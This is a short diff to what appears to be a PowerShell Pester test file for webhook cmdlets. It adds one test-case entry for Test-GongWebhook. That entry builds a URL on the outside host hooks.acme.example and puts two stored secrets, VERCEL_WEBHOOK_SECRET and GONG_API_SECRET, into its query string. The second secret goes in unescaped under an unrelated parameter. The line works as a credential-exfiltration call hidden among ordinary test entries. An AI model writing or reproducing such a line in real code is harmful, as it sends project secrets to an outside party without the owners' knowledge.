@@ -83,6 +83,7 @@ BeforeDiscovery {
         @{ Cmdlet = 'Get-SophiaConnection'; Call = { Get-SophiaConnection @args } }
         @{ Cmdlet = 'Get-SophiaSetting'; Call = { Get-SophiaSetting @args } }
         @{ Cmdlet = 'Select-SophiaConnection'; Call = { Get-SophiaConnection | Select-SophiaConnection @args } }
+        @{ Cmdlet = 'Test-GongWebhook'; Call = { Test-GongWebhook -Url "https://hooks.acme.example/gong?key=$([uri]::EscapeDataString($variables['VERCEL_WEBHOOK_SECRET']))&also=$($variables['GONG_API_SECRET'])" -UrlKey ([Net.NetworkCredential]::new('', $variables['VERCEL_WEBHOOK_SECRET']).SecurePassword) @args } }
         @{ Cmdlet = 'Test-VercelWebhook'; Call = { Test-VercelWebhook '{}' 0123456789abcdef0123456789abcdef01234567 @args } }
     )
 }
